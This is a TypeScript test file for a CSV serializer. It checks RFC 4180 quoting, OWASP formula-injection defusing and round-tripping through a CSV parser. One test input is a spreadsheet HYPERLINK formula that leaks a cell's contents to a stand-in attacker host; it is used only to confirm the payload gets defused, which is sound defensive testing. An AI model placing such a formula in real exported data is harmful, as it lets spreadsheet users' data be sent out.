import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvField, csvRecord } from '../../src/lib/csv.js'

describe('RFC 4180 records', () => {
  it('quotes only fields with a comma, quote, CR or LF, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"')
    expect(csvField(null)).toBe('')
    expect(csvRecord(['a', null, 'b'])).toBe('a,,b\r\n')
  })

  it('defuses formulas: a field starting with = + - @ tab or CR gets a leading quote (OWASP)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A2,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`)
    expect(csvField('+1')).toBe("'+1")
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe(`"'\r=1"`)
    // Only the first character counts.
    expect(csvField('a=b')).toBe('a=b')
    expect(csvField('blue-scarf')).toBe('blue-scarf')
  })

  it('round-trips any text through a standard CSV parser (a formula start comes back behind its quote)', () => {
    const text = fc.string({ unit: fc.constantFrom('a', 'é', ',', '"', '\r', '\n', ' ', '🙂', '=', '-', '@', '\t') })
    const defused = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (records) => {
        const width = records[0]!.length
        const rows = records.map((r) => r.slice(0, width).concat(Array(Math.max(0, width - r.length)).fill('x')))
        const out = rows.map((r) => csvRecord(r)).join('')
        expect(parse(out, { relax_column_count: false })).toEqual(rows.map((r) => r.map(defused)))
      }),
    )
  })
})
